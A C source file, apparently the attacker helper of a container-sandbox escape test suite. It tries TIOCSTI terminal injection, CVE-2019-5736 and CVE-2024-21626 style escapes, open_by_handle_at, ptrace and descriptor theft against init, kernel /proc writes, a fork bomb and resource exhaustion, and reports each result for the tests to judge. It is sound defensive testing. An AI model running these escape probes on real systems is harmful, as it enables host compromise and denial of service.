/* The attacker of the escape suite (tests/escape.rs). Built static on the host
 * (cc -static) and bound read-only into the cell, so every attack runs the
 * same code whatever the cell's root holds.
 *
 * Each subcommand tries one family of attacks and prints one line per attempt:
 *
 *     NAME ok            the call succeeded (the attack got through)
 *     NAME EPERM         it failed, with this errno (strerrorname_np)
 *     NAME ok: DETAIL    succeeded, with something it observed
 *
 * The test decides what is acceptable; the helper never judges. It exits 0
 * once it has tried everything, so the test sees every line.
 *
 *   esc tiocsti               fd 0 is a tty: TIOCSCTTY, then TIOCSTI "id\n" (plain and
 *                             with high bits set in the request), TIOCLINUX paste
 *   esc syscalls              kernel interfaces a job must not reach (modules, bpf, ...)
 *   esc mounts DIR            remount DIR (a read-only bind) rw, mount, umount, pivot_root
 *   esc userns DIR FILE       a nested user namespace, mount attacks in it, then write DIR/FILE
 *   esc exe                   CVE-2019-5736 style: write /proc/self/exe and /proc/1/exe
 *   esc ptrace PID            trace, read the memory of, signal PID
 *   esc killall               kill(-1, SIGKILL), then report which children died
 *   esc int80                 system calls through the i386 (int 0x80) and x32 ABIs
 *   esc uts NAME              set the host name and domain name
 *   esc clock                 set or adjust the clocks, new time namespace
 *   esc shm COUNT MIB         create COUNT SysV segments of MIB MiB, touch them, leave them
 *   esc connect IP PORT       TCP connect
 *   esc unix NAME             connect to the abstract unix socket @NAME
 *   esc fds                   every descriptor beyond 0-2, and what it leads to
 *   esc stealfd               take a descriptor of the cell's init (pidfd_getfd, /proc/1/fd)
 *   esc whoami FILE           real and effective ids, then open FILE for writing
 *   esc proc                  /proc files a job must not write or read
 *   esc cgroup                mount cgroupfs, write cgroup files
 *   esc forkbomb              fork forever
 *   esc mem MIB               allocate and touch MIB MiB
 *   esc daemon MARKER         double fork, setsid, ignore every signal, sleep
 *   esc sockets               socket() of each address family, one line per family
 *   esc vsock PORT MS         bind and listen on vsock PORT, then hold it MS milliseconds
 *   esc inotify MS [MAX]      inotify instances until refused (or MAX), one watch on /
 *                             each; hold them MS milliseconds
 *   esc mqueue MS [MAX]       POSIX message queues (10 x 8 KiB) until refused (or MAX);
 *                             hold them MS milliseconds
 *   esc sigqueue MS [MAX]     queue real-time signals to itself until refused (or MAX);
 *                             hold them MS milliseconds
 *   esc files DIR COUNT       create COUNT empty files in DIR
 *   esc sockbuf MIB MS        fill the buffers of loopback TCP and UDP sockets nobody
 *                             reads, up to MIB MiB each; hold them MS milliseconds
 *   esc swap DIR              swap DIR/sub (a directory) and DIR/swap (a symlink) with
 *                             RENAME_EXCHANGE until DIR/stop exists; leave the directory
 *                             in place and create DIR/stopped
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <linux/vm_sockets.h>
#include <mqueue.h>
#include <sys/inotify.h>
#include <linux/perf_event.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/personality.h>
#include <sys/resource.h>
#include <sys/ptrace.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/timex.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void report(const char *name, long r) {
    if (r < 0)
        printf("%s %s\n", name, strerrorname_np(errno) ? strerrorname_np(errno) : "E?");
    else
        printf("%s ok\n", name);
    fflush(stdout);
}

/* For raw syscalls that return -errno in a register (int 0x80). */
static void report_raw(const char *name, long r) {
    if (r < 0 && r > -4096) {
        errno = (int)-r;
        report(name, -1);
    } else {
        printf("%s ok\n", name);
        fflush(stdout);
    }
}

static int tiocsti(void) {
    char c = 'x';
    report("isatty", isatty(0) ? 0 : -1);
    report("tiocsctty", ioctl(0, TIOCSCTTY, 0));
    const char *cmd = "id\n";
    long r = 0;
    for (const char *p = cmd; *p; p++)
        if ((r = syscall(SYS_ioctl, 0, (unsigned long)TIOCSTI, p)) < 0) break;
    report("tiocsti", r);
    /* The kernel truncates the request to 32 bits; a filter comparing all 64 misses it. */
    for (const char *p = cmd; *p; p++)
        if ((r = syscall(SYS_ioctl, 0, (unsigned long)TIOCSTI | (1UL << 32), p)) < 0) break;
    report("tiocsti_high_bits", r);
    char sub = 3; /* TIOCL_PASTESEL */
    report("tioclinux", syscall(SYS_ioctl, 0, (unsigned long)TIOCLINUX, &sub));
    (void)c;
    return 0;
}

static int syscalls(void) {
    static char image[64];
    report("init_module", syscall(SYS_init_module, image, sizeof image, ""));
    int fd = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    report("finit_module", syscall(SYS_finit_module, fd, "", 0));
    report("delete_module", syscall(SYS_delete_module, "loop", O_NONBLOCK));
    report("kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0));
    report("kexec_file_load", syscall(SYS_kexec_file_load, fd, -1, 1, "", 2 /* NO_INITRAMFS */));
    close(fd);
    /* bpf(BPF_MAP_CREATE) of a tiny array map: allowed unprivileged on many kernels. */
    union {
        struct { uint32_t type, key_size, value_size, max_entries; } map;
        char pad[128];
    } attr;
    memset(&attr, 0, sizeof attr);
    attr.map.type = 2; /* BPF_MAP_TYPE_ARRAY */
    attr.map.key_size = 4;
    attr.map.value_size = 4;
    attr.map.max_entries = 1;
    report("bpf", syscall(SYS_bpf, 0 /* BPF_MAP_CREATE */, &attr, sizeof attr));
    struct perf_event_attr pe;
    memset(&pe, 0, sizeof pe);
    pe.size = sizeof pe;
    pe.type = PERF_TYPE_SOFTWARE;
    pe.config = PERF_COUNT_SW_TASK_CLOCK;
    pe.exclude_kernel = 1;
    report("perf_event_open", syscall(SYS_perf_event_open, &pe, 0, -1, -1, 0));
    report("add_key", syscall(SYS_add_key, "user", "jobcell-escape", "x", 1, -2 /* session */));
    report("request_key", syscall(SYS_request_key, "user", "jobcell-escape", NULL, 0));
    report("keyctl", syscall(SYS_keyctl, 0 /* GET_KEYRING_ID */, -3 /* user */, 1));
    report("userfaultfd", syscall(SYS_userfaultfd, O_CLOEXEC | 1 /* UFFD_USER_MODE_ONLY */));
    char params[120];
    memset(params, 0, sizeof params);
    report("io_uring_setup", syscall(SYS_io_uring_setup, 4, params));
    /* "Shocker": open a file by its handle, past the mount namespace. */
    struct { unsigned int bytes; int type; unsigned char h[128]; } fh;
    memset(&fh, 0, sizeof fh);
    fh.bytes = 128;
    int mnt;
    report("name_to_handle_at", syscall(SYS_name_to_handle_at, AT_FDCWD, "/", &fh, &mnt, 0));
    fh.bytes = 8;
    fh.type = 1; /* FILEID_INO32_GEN: inode 2 is the root of most file systems */
    fh.h[0] = 2;
    report("open_by_handle_at", syscall(SYS_open_by_handle_at, AT_FDCWD, &fh, O_RDONLY));
    report("acct", syscall(SYS_acct, "/tmp/acct"));
    report("swapon", syscall(SYS_swapon, "/tmp/swap", 0));
    report("reboot", syscall(SYS_reboot, 0xfee1dead, 0x28121969, 0 /* CAD_OFF */, NULL));
    char buf[16];
    report("syslog", syscall(SYS_syslog, 3 /* READ_ALL */, buf, sizeof buf));
    report("iopl", syscall(SYS_iopl, 3));
    report("ioperm", syscall(SYS_ioperm, 0x80, 1, 1));
    report("personality_linux32", syscall(SYS_personality, PER_LINUX32));
    report("personality_norandom", syscall(SYS_personality, ADDR_NO_RANDOMIZE));
    return 0;
}

static int mounts(const char *dir) {
    report("remount_bind_rw", mount(NULL, dir, NULL, MS_REMOUNT | MS_BIND, NULL));
    report("remount_rw", mount(NULL, dir, NULL, MS_REMOUNT, NULL));
    report("mount_tmpfs", mount("tmpfs", "/tmp", "tmpfs", 0, NULL));
    report("mount_proc", mount("proc", "/tmp", "proc", 0, NULL));
    report("mount_sysfs", mount("sysfs", "/tmp", "sysfs", 0, NULL));
    report("bind_root", mount("/", "/tmp", NULL, MS_BIND | MS_REC, NULL));
    report("umount", umount2(dir, MNT_DETACH));
    report("umount_proc", umount2("/proc", MNT_DETACH));
    report("pivot_root", syscall(SYS_pivot_root, ".", "."));
    report("chroot", chroot("/tmp"));
    report("open_tree", syscall(SYS_open_tree, AT_FDCWD, "/", 1 /* OPEN_TREE_CLONE */));
    report("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
    struct { uint64_t set, clr, propagation, userns_fd; } attr = {0, 0x1 /* MOUNT_ATTR_RDONLY */, 0, 0};
    report("mount_setattr", syscall(SYS_mount_setattr, AT_FDCWD, dir, 0, &attr, sizeof attr));
    char path[4096];
    snprintf(path, sizeof path, "%s/planted", dir);
    report("write_in_dir", open(path, O_WRONLY | O_CREAT | O_EXCL, 0644));
    return 0;
}

static void write_map(const char *file, const char *line) {
    int fd = open(file, O_WRONLY);
    if (fd >= 0) {
        if (write(fd, line, strlen(line)) < 0) {}
        close(fd);
    }
}

static int userns(const char *dir, const char *file) {
    uid_t uid = getuid();
    gid_t gid = getgid();
    long child = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
    if (child == 0) _exit(0);
    report("clone_newuser", child);
    if (child > 0) waitpid((pid_t)child, NULL, 0);
    report("clone3", syscall(SYS_clone3, NULL, 0));
    int nsfd = open("/proc/1/ns/user", O_RDONLY | O_CLOEXEC);
    report("setns_init", nsfd < 0 ? -1 : syscall(SYS_setns, nsfd, 0));
    long r = unshare(CLONE_NEWUSER | CLONE_NEWNS);
    report("unshare_user_mount", r);
    if (r == 0) {
        char line[64];
        write_map("/proc/self/setgroups", "deny");
        snprintf(line, sizeof line, "0 %u 1", uid);
        write_map("/proc/self/uid_map", line);
        snprintf(line, sizeof line, "0 %u 1", gid);
        write_map("/proc/self/gid_map", line);
        printf("nested_root %s\n", geteuid() == 0 ? "yes" : "no");
        report("nested_remount_bind_rw", mount(NULL, dir, NULL, MS_REMOUNT | MS_BIND, NULL));
        report("nested_umount", umount2(dir, MNT_DETACH));
        report("nested_mount_proc", mount("proc", "/tmp", "proc", 0, NULL));
        report("nested_mount_sysfs", mount("sysfs", "/tmp", "sysfs", 0, NULL));
        report("nested_mount_cgroup2", mount("cgroup2", "/tmp", "cgroup2", 0, NULL));
    }
    char path[4096];
    snprintf(path, sizeof path, "%s/%s", dir, file);
    int fd = open(path, O_WRONLY | O_TRUNC);
    report("write_file", fd < 0 ? -1 : write(fd, "pwned\n", 6));
    return 0;
}

static int exe(void) {
    report("open_self_exe_w", open("/proc/self/exe", O_WRONLY));
    report("open_init_exe_r", open("/proc/1/exe", O_RDONLY));
    report("open_init_exe_w", open("/proc/1/exe", O_WRONLY));
    int fd = open("/proc/1/exe", O_PATH);
    report("open_init_exe_path", fd);
    char link[64], target[4096];
    if (fd >= 0) {
        snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
        report("reopen_init_exe_w", open(link, O_WRONLY));
    }
    ssize_t n = readlink("/proc/1/exe", target, sizeof target - 1);
    if (n >= 0) {
        target[n] = 0;
        printf("readlink_init_exe ok: %s\n", target);
    } else {
        report("readlink_init_exe", -1);
    }
    report("open_init_root", open("/proc/1/root/", O_RDONLY | O_DIRECTORY));
    report("open_init_cwd", open("/proc/1/cwd/", O_RDONLY | O_DIRECTORY));
    report("open_init_mem", open("/proc/1/mem", O_RDWR));
    report("ptrace_init", ptrace(PTRACE_ATTACH, 1, 0, 0));
    return 0;
}

static int trace(pid_t pid) {
    report("kill0", kill(pid, 0));
    report("kill_term", kill(pid, SIGTERM));
    report("ptrace_attach", ptrace(PTRACE_ATTACH, pid, 0, 0));
    report("ptrace_seize", ptrace(PTRACE_SEIZE, pid, 0, 0));
    char buf[8];
    struct iovec local = {buf, sizeof buf}, remote = {(void *)0x400000, sizeof buf};
    report("process_vm_readv", process_vm_readv(pid, &local, 1, &remote, 1, 0));
    report("pidfd_open", syscall(SYS_pidfd_open, pid, 0));
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/status", pid);
    report("proc_status", open(path, O_RDONLY));
    return 0;
}

static int killall(void) {
    report("kill_all", kill(-1, SIGKILL));
    int st;
    pid_t p;
    while ((p = waitpid(-1, &st, 0)) > 0)
        printf("child %d %s %d\n", p, WIFSIGNALED(st) ? "signal" : "exit",
               WIFSIGNALED(st) ? WTERMSIG(st) : WEXITSTATUS(st));
    report("init_alive", kill(1, 0));
    return 0;
}

static char int80_path[] = "/tmp/int80";

static long int80(long nr, long a, long b) {
    long r;
    __asm__ volatile("int $0x80" : "=a"(r) : "a"(nr), "b"(a), "c"(b) : "memory");
    return r;
}

static int abi(void) {
    /* The binary is static and not position-independent: its data lies below 4 GiB,
     * where 32-bit pointers can reach it. */
    report_raw("i386_getpid", int80(20, 0, 0));
    report_raw("i386_mkdir", int80(39, (long)(uintptr_t)int80_path, 0755));
    report_raw("i386_setuid32", int80(213, 0, 0));
    report("x32_mkdir", syscall(0x40000000 | SYS_mkdir, "/tmp/x32", 0755));
    struct stat st;
    report("int80_dir_exists", stat(int80_path, &st));
    report("x32_dir_exists", stat("/tmp/x32", &st));
    return 0;
}

static int uts(const char *name) {
    report("sethostname", sethostname(name, strlen(name)));
    report("setdomainname", setdomainname(name, strlen(name)));
    report("unshare_uts", unshare(CLONE_NEWUTS));
    return 0;
}

static int clocks(void) {
    struct timespec ts = {946684800, 0}; /* 2000-01-01 */
    report("clock_settime", clock_settime(CLOCK_REALTIME, &ts));
    struct timeval tv = {946684800, 0};
    report("settimeofday", settimeofday(&tv, NULL));
    struct timex tx;
    memset(&tx, 0, sizeof tx);
    tx.modes = ADJ_OFFSET | ADJ_STATUS;
    tx.offset = 500000;
    tx.status = STA_PLL;
    report("adjtimex", adjtimex(&tx));
    memset(&tx, 0, sizeof tx);
    tx.modes = ADJ_SETOFFSET;
    tx.time.tv_sec = 3600;
    report("clock_adjtime", syscall(SYS_clock_adjtime, CLOCK_REALTIME, &tx));
    report("unshare_time", unshare(0x00000080 /* CLONE_NEWTIME */));
    return 0;
}

static int shm(int count, long mib) {
    size_t size = (size_t)mib << 20;
    for (int i = 0; i < count; i++) {
        int id = shmget(IPC_PRIVATE, size, IPC_CREAT | 0600);
        if (id < 0) { report("shmget", -1); return 0; }
        char *p = shmat(id, NULL, 0);
        if (p == (void *)-1) { report("shmat", -1); return 0; }
        for (size_t o = 0; o < size; o += 4096) p[o] = 1;
        shmdt(p);
        printf("segment %d\n", id);
    }
    fflush(stdout);
    return 0;
}

static int tcp_connect(const char *ip, int port) {
    int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
    inet_pton(AF_INET, ip, &a.sin_addr);
    report("connect", connect(s, (struct sockaddr *)&a, sizeof a));
    return 0;
}

static int unix_connect(const char *name) {
    int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    size_t n = strlen(name);
    if (n > sizeof a.sun_path - 2) n = sizeof a.sun_path - 2;
    memcpy(a.sun_path + 1, name, n);
    report("connect_abstract", connect(s, (struct sockaddr *)&a, offsetof(struct sockaddr_un, sun_path) + 1 + n));
    return 0;
}

static int fds(void) {
    int found = 0;
    for (int fd = 3; fd < 65536; fd++) {
        if (fcntl(fd, F_GETFD) < 0) continue;
        char link[64], target[4096];
        snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
        ssize_t n = readlink(link, target, sizeof target - 1);
        target[n < 0 ? 0 : n] = 0;
        printf("fd %d -> %s\n", fd, target);
        /* CVE-2024-21626: a directory descriptor leads outside the root. */
        int up = openat(fd, "..", O_RDONLY | O_DIRECTORY);
        report("openat_dotdot", up);
        found++;
    }
    printf("fds %d\n", found);
    return 0;
}

static int stealfd(void) {
    int pfd = (int)syscall(SYS_pidfd_open, 1, 0);
    report("pidfd_open_init", pfd);
    int saved = ENOENT, fd;
    for (fd = 0; pfd >= 0 && fd < 256; fd++) {
        long r = syscall(SYS_pidfd_getfd, pfd, fd, 0);
        if (r >= 0) break;
        if (errno != EBADF) saved = errno;
    }
    if (pfd >= 0 && fd < 256) printf("pidfd_getfd ok: init's fd %d\n", fd);
    else { errno = saved; report("pidfd_getfd", -1); }
    saved = ENOENT;
    for (fd = 0; fd < 256; fd++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/1/fd/%d", fd);
        int r = open(path, O_RDWR);
        if (r >= 0) break;
        if (errno != ENOENT) saved = errno;
    }
    if (fd < 256) printf("proc_init_fd ok: %d\n", fd);
    else { errno = saved; report("proc_init_fd", -1); }
    return 0;
}

static int whoami(const char *file) {
    uid_t r, e, s;
    getresuid(&r, &e, &s);
    printf("uid %u %u %u\n", r, e, s);
    int fd = open(file, O_WRONLY | O_APPEND);
    report("write_file", fd < 0 ? -1 : write(fd, "pwned\n", 6));
    report("setuid0", setuid(0));
    return 0;
}

/* Opens a /proc file for writing; if that works, writes back what it holds
 * (so a successful attack still leaves the host as it was). */
static void proc_write(const char *name, const char *path) {
    char buf[4096];
    ssize_t n = -1;
    int rfd = open(path, O_RDONLY);
    if (rfd >= 0) {
        n = read(rfd, buf, sizeof buf);
        close(rfd);
    }
    int fd = open(path, O_WRONLY);
    if (fd < 0) { report(name, -1); return; }
    if (n > 0) report(name, write(fd, buf, (size_t)n));
    else report(name, 0);
    close(fd);
}

static void proc_read(const char *name, const char *path) {
    int fd = open(path, O_RDONLY);
    if (fd < 0) { report(name, -1); return; }
    char buf[4096];
    ssize_t n = read(fd, buf, sizeof buf);
    if (n < 0) report(name, -1);
    else if (n == 0) printf("%s empty\n", name);
    else printf("%s ok: %zd bytes\n", name, n);
    close(fd);
}

static int proc(void) {
    proc_write("w_core_pattern", "/proc/sys/kernel/core_pattern");
    proc_write("w_modprobe", "/proc/sys/kernel/modprobe");
    proc_write("w_hostname", "/proc/sys/kernel/hostname");
    proc_write("w_sysrq", "/proc/sys/kernel/sysrq");
    proc_write("w_drop_caches", "/proc/sys/vm/drop_caches");
    proc_write("w_sysrq_trigger", "/proc/sysrq-trigger");
    proc_read("r_kcore", "/proc/kcore");
    proc_read("r_kmsg", "/proc/kmsg");
    proc_read("r_keys", "/proc/keys");
    proc_read("r_timer_list", "/proc/timer_list");
    proc_read("r_sched_debug", "/proc/sched_debug");
    proc_read("r_kpageflags", "/proc/kpageflags");
    return 0;
}

static int cgroup(void) {
    struct stat st;
    report("sys_fs_cgroup_exists", stat("/sys/fs/cgroup", &st));
    report("mount_cgroup2", mount("cgroup2", "/tmp", "cgroup2", 0, NULL));
    report("mount_cgroup_memory", mount("cgroup", "/tmp", "cgroup", 0, "memory"));
    report("mount_cgroup_pids", mount("cgroup", "/tmp", "cgroup", 0, "pids"));
    report("fsopen_cgroup2", syscall(SYS_fsopen, "cgroup2", 0));
    /* Whatever a cgroup file the job might reach through /proc. */
    report("w_memory_limit", open("/sys/fs/cgroup/memory/memory.limit_in_bytes", O_WRONLY));
    report("w_memory_max", open("/sys/fs/cgroup/memory.max", O_WRONLY));
    report("w_cgroup_procs", open("/sys/fs/cgroup/cgroup.procs", O_WRONLY));
    return 0;
}

static int mem(long mib) {
    size_t n = (size_t)mib << 20;
    char *p = malloc(n);
    if (!p) { report("malloc", -1); return 0; }
    for (size_t i = 0; i < n; i += 4096) p[i] = 1;
    printf("touched %ld MiB\n", mib);
    return 0;
}

static int daemonize(void) {
    pid_t p = fork();
    if (p < 0) { report("fork", -1); return 0; }
    if (p > 0) { waitpid(p, NULL, 0); printf("daemon started\n"); return 0; }
    setsid();
    if (fork() != 0) _exit(0);
    for (int s = 1; s < 65; s++) signal(s, SIG_IGN);
    close(0); close(1); close(2);
    for (;;) pause();
}

static void hold(long ms) {
    fflush(stdout);
    usleep(ms * 1000);
}

static int sockets(void) {
    static const struct { const char *name; int family, type; } fams[] = {
        {"unix", AF_UNIX, SOCK_STREAM}, {"inet", AF_INET, SOCK_STREAM},
        {"inet6", AF_INET6, SOCK_STREAM}, {"netlink", AF_NETLINK, SOCK_RAW},
        {"packet", AF_PACKET, SOCK_DGRAM}, {"vsock", AF_VSOCK, SOCK_STREAM},
        {"alg", AF_ALG, SOCK_SEQPACKET}, {"tipc", AF_TIPC, SOCK_RDM},
        {"rds", AF_RDS, SOCK_SEQPACKET}, {"can", AF_CAN, SOCK_RAW},
        {"bluetooth", AF_BLUETOOTH, SOCK_STREAM}, {"kcm", AF_KCM, SOCK_DGRAM},
        {"smc", AF_SMC, SOCK_STREAM}, {"xdp", AF_XDP, SOCK_RAW},
        {"appletalk", AF_APPLETALK, SOCK_DGRAM}, {"x25", AF_X25, SOCK_SEQPACKET},
        {"key", AF_KEY, SOCK_RAW}, {"llc", AF_LLC, SOCK_DGRAM},
    };
    char name[64];
    for (size_t i = 0; i < sizeof fams / sizeof fams[0]; i++) {
        snprintf(name, sizeof name, "socket_%s", fams[i].name);
        int s = socket(fams[i].family, fams[i].type | SOCK_CLOEXEC, 0);
        report(name, s);
        if (s >= 0) close(s);
        snprintf(name, sizeof name, "socketpair_%s", fams[i].name);
        int sv[2];
        int r = socketpair(fams[i].family, fams[i].type | SOCK_CLOEXEC, 0, sv);
        report(name, r);
        if (r == 0) { close(sv[0]); close(sv[1]); }
    }
    return 0;
}

static int vsock(int port, long ms) {
    int s = socket(AF_VSOCK, SOCK_STREAM | SOCK_CLOEXEC, 0);
    report("vsock_socket", s);
    if (s < 0) return 0;
    struct sockaddr_vm a = {.svm_family = AF_VSOCK, .svm_cid = VMADDR_CID_ANY, .svm_port = port};
    int r = bind(s, (struct sockaddr *)&a, sizeof a);
    report("vsock_bind", r);
    if (r == 0) report("vsock_listen", listen(s, 1));
    hold(ms);
    return 0;
}

static int inotify(long ms, long max) {
    int n = 0, watches = 0, fd;
    errno = 0;
    while (n < max && (fd = inotify_init1(IN_CLOEXEC)) >= 0) {
        n++;
        if (inotify_add_watch(fd, "/", IN_ALL_EVENTS) >= 0) watches++;
    }
    printf("inotify_instances %d %s\n", n, errno ? strerrorname_np(errno) : "ok");
    printf("inotify_watches %d\n", watches);
    hold(ms);
    return 0;
}

static int mqueue(long ms, long max) {
    struct mq_attr attr = {.mq_maxmsg = 10, .mq_msgsize = 8192};
    char name[32];
    int n = 0;
    errno = 0;
    while (n < max) {
        snprintf(name, sizeof name, "/jc-esc-%d-%d", getpid(), n);
        mqd_t q = mq_open(name, O_CREAT | O_EXCL | O_RDWR | O_CLOEXEC, 0600, &attr);
        if (q == (mqd_t)-1) break;
        mq_unlink(name); /* the queue lives while the descriptor does */
        n++;
    }
    printf("mqueues %d %s\n", n, errno ? strerrorname_np(errno) : "ok");
    hold(ms);
    return 0;
}

static int sigqueue_self(long ms, long max) {
    sigset_t set;
    sigemptyset(&set);
    sigaddset(&set, SIGRTMIN);
    sigprocmask(SIG_BLOCK, &set, NULL);
    union sigval v = {0};
    long n = 0;
    errno = 0;
    while (n < max && sigqueue(getpid(), SIGRTMIN, v) == 0) n++;
    printf("sigqueued %ld %s\n", n, errno ? strerrorname_np(errno) : "ok");
    hold(ms);
    return 0;
}

static int files(const char *dir, long count) {
    char path[4096];
    long n = 0;
    for (; n < count; n++) {
        snprintf(path, sizeof path, "%s/f%ld", dir, n);
        int fd = open(path, O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 0600);
        if (fd < 0) break;
        close(fd);
    }
    printf("files %ld %s\n", n, n < count ? strerrorname_np(errno) : "ok");
    return 0;
}

/* Bytes queued on the cell's TCP or UDP sockets (tx_queue + rx_queue of
 * /proc/net/tcp, /proc/net/udp: payload for TCP, memory for UDP). */
static long queued(const char *table) {
    FILE *f = fopen(table, "r");
    if (!f) return -1;
    char line[512];
    long total = 0;
    fgets(line, sizeof line, f);
    while (fgets(line, sizeof line, f)) {
        unsigned long tx = 0, rx = 0;
        if (sscanf(line, "%*s %*s %*s %*s %lx:%lx", &tx, &rx) == 2) total += tx + rx;
    }
    fclose(f);
    return total;
}

/* Loopback TCP connections and UDP receivers nobody reads from, their
 * buffers filled, until MIB MiB is queued on each protocol (or the kernel
 * refuses more); then hold them MS milliseconds. */
static int sockbuf(long mib, long ms) {
    long goal = mib << 20;
    static char buf[65000];
    struct rlimit nofile;
    getrlimit(RLIMIT_NOFILE, &nofile);
    nofile.rlim_cur = nofile.rlim_max;
    setrlimit(RLIMIT_NOFILE, &nofile);
    int big = 64 << 20, err = 0;
    int l = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    setsockopt(l, SOL_SOCKET, SO_RCVBUF, &big, sizeof big);
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    socklen_t al = sizeof a;
    if (l < 0 || bind(l, (struct sockaddr *)&a, sizeof a) || listen(l, 4096) ||
        getsockname(l, (struct sockaddr *)&a, &al)) {
        report("tcp_listen", -1);
        return 0;
    }
    int conns = 0, first = -1;
    for (int i = 0; !err && (i % 16 || queued("/proc/net/tcp") < goal); i++) {
        int c = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
        if (c < 0) { err = errno; break; }
        if (first < 0) first = c;
        setsockopt(c, SOL_SOCKET, SO_SNDBUF, &big, sizeof big);
        if (connect(c, (struct sockaddr *)&a, sizeof a) && errno != EINPROGRESS) { err = errno; close(c); break; }
        int s = accept4(l, NULL, NULL, SOCK_CLOEXEC);
        if (s < 0) { err = errno; close(c); break; }
        conns++;
        long sent = 0;
        for (;;) {
            usleep(100);
            ssize_t w = send(c, buf, sizeof buf, MSG_NOSIGNAL);
            if (w <= 0) { if (w < 0 && errno != EAGAIN) err = errno; break; }
            sent += w;
        }
        if (sent == 0) break; /* nothing more fits anywhere */
    }
    close(l); /* room to read /proc */
    printf("tcp_connections %d\n", conns);
    printf("tcp_queued %ld %s\n", queued("/proc/net/tcp") >> 20, err ? strerrorname_np(err) : "ok");
    /* Measured one protocol at a time: free the descriptors and buffers. */
    if (first >= 0) close_range(first, ~0U, 0);
    err = 0;
    int tx = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
    int last = -1;
    for (int i = 0; !err && (i % 16 || queued("/proc/net/udp") < goal); i++) {
        int r = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
        if (r < 0) { err = errno; break; }
        last = r;
        setsockopt(r, SOL_SOCKET, SO_RCVBUF, &big, sizeof big);
        struct sockaddr_in u = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
        socklen_t ul = sizeof u;
        if (bind(r, (struct sockaddr *)&u, sizeof u) || getsockname(r, (struct sockaddr *)&u, &ul)) {
            err = errno;
            break;
        }
        /* More than a receive buffer holds: the rest is dropped. */
        int delivered = 0;
        for (int k = 0; k < 16; k++) {
            if (sendto(tx, buf, sizeof buf, MSG_NOSIGNAL, (struct sockaddr *)&u, sizeof u) < 0 && errno != EAGAIN) {
                err = errno;
                break;
            }
            int n = 0;
            if (k == 0 && ioctl(r, FIONREAD, &n) == 0 && n > 0) delivered = 1;
        }
        if (!delivered) break; /* not even one datagram fits anywhere */
    }
    if (last >= 0) close(last);
    printf("udp_queued %ld %s\n", queued("/proc/net/udp") >> 20, err ? strerrorname_np(err) : "ok");
    hold(ms);
    return 0;
}

static int swap(const char *dir) {
    char sub[4096], other[4096], stop[4096], stopped[4096];
    snprintf(sub, sizeof sub, "%s/sub", dir);
    snprintf(other, sizeof other, "%s/swap", dir);
    snprintf(stop, sizeof stop, "%s/stop", dir);
    snprintf(stopped, sizeof stopped, "%s/stopped", dir);
    long n = 0;
    printf("swapping\n");
    fflush(stdout);
    while (access(stop, F_OK) != 0) {
        if (syscall(SYS_renameat2, AT_FDCWD, sub, AT_FDCWD, other, RENAME_EXCHANGE) == 0) n++;
    }
    struct stat st;
    if (lstat(sub, &st) == 0 && S_ISLNK(st.st_mode))
        syscall(SYS_renameat2, AT_FDCWD, sub, AT_FDCWD, other, RENAME_EXCHANGE);
    printf("swapped %ld\n", n);
    close(open(stopped, O_CREAT | O_WRONLY | O_CLOEXEC, 0644));
    return 0;
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc < 2) return 2;
    const char *c = argv[1];
    if (!strcmp(c, "tiocsti")) return tiocsti();
    if (!strcmp(c, "syscalls")) return syscalls();
    if (!strcmp(c, "mounts") && argc == 3) return mounts(argv[2]);
    if (!strcmp(c, "userns") && argc == 4) return userns(argv[2], argv[3]);
    if (!strcmp(c, "exe")) return exe();
    if (!strcmp(c, "ptrace") && argc == 3) return trace(atoi(argv[2]));
    if (!strcmp(c, "killall")) return killall();
    if (!strcmp(c, "int80")) return abi();
    if (!strcmp(c, "uts") && argc == 3) return uts(argv[2]);
    if (!strcmp(c, "clock")) return clocks();
    if (!strcmp(c, "shm") && argc == 4) return shm(atoi(argv[2]), atol(argv[3]));
    if (!strcmp(c, "connect") && argc == 4) return tcp_connect(argv[2], atoi(argv[3]));
    if (!strcmp(c, "unix") && argc == 3) return unix_connect(argv[2]);
    if (!strcmp(c, "fds")) return fds();
    if (!strcmp(c, "whoami") && argc == 3) return whoami(argv[2]);
    if (!strcmp(c, "stealfd")) return stealfd();
    if (!strcmp(c, "proc")) return proc();
    if (!strcmp(c, "cgroup")) return cgroup();
    if (!strcmp(c, "forkbomb")) for (;;) if (fork() < 0) usleep(10000);
    if (!strcmp(c, "mem") && argc == 3) return mem(atol(argv[2]));
    if (!strcmp(c, "daemon") && argc == 3) return daemonize();
    if (!strcmp(c, "sockets")) return sockets();
    if (!strcmp(c, "vsock") && argc == 4) return vsock(atoi(argv[2]), atol(argv[3]));
    long max = argc == 4 ? atol(argv[3]) : 100000000;
